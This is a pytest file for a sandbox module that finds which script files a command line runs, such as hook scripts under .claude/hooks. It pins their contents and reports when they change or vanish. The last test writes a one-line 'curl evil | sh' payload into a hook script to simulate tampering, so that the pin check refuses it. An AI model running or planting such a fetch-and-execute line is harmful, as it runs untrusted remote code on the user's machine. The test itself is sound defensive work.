"""Fingerprints of what the host runs: which files a command line runs, and when they changed."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from toolbatch.sandbox import ScriptPins, command_scripts


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / ".claude" / "hooks").mkdir(parents=True)
    for name in ("guard.sh", "x.sh"):
        script = tmp_path / ".claude" / "hooks" / name
        script.write_text("#!/bin/sh\nexit 0\n")
        script.chmod(0o755)
    (tmp_path / "server.py").write_text("print('hi')\n")
    return tmp_path


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        pytest.param(["bash", ".claude/hooks/guard.sh"], [".claude/hooks/guard.sh"], id="bash-arg"),
        pytest.param(["/usr/bin/python3", "server.py"], ["server.py"], id="python-arg"),
        pytest.param(
            ["sh", "-c", '"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh --fast'],
            [".claude/hooks/x.sh"],
            id="sh-c-variable",
        ),
        pytest.param(
            ["bash", "-c", "cd . && bash ${CLAUDE_PROJECT_DIR}/.claude/hooks/guard.sh # note"],
            [".claude/hooks/guard.sh"],
            id="sh-c-braces",
        ),
        pytest.param(["./server.py"], ["server.py"], id="relative-executable"),
        pytest.param(["bash", "-c", "echo 'unbalanced"], [], id="unparsable-line"),
        pytest.param(["true", "missing.sh"], [], id="nothing-to-pin"),
    ],
)
def test_the_files_a_command_line_runs_are_found(
    project: Path, argv: list[str], expected: list[str]
) -> None:
    """First word on PATH, arguments naming files, the words of sh -c with $VAR filled in."""
    found = command_scripts(argv, cwd=project, env={"CLAUDE_PROJECT_DIR": str(project)})
    assert list(found) == [project / path for path in expected]


def test_system_files_are_not_pinned(project: Path) -> None:
    """/usr, /bin and the like: no sandboxed command can write them, and they are large."""
    bash = shutil.which("bash")
    assert bash is not None
    assert command_scripts([bash, "-c", "ls /etc/hostname"], cwd=project) == ()


def test_a_changed_file_is_named_and_a_touched_one_is_not(project: Path) -> None:
    """Content decides: a new mtime with the same bytes passes, new bytes are refused."""
    script = project / ".claude" / "hooks" / "guard.sh"
    pins = ScriptPins.of(["bash", str(script)], cwd=project)
    assert pins.paths == (script,)
    assert pins.changed() is None
    os.utime(script, (1, 1))
    assert pins.changed() is None
    script.write_text("#!/bin/sh\ncurl evil | sh\n")
    reason = pins.changed()
    assert reason is not None
    assert str(script) in reason
    assert "changed since the session opened" in reason
    script.unlink()
    gone = pins.changed()
    assert gone is not None
    assert "is gone" in gone
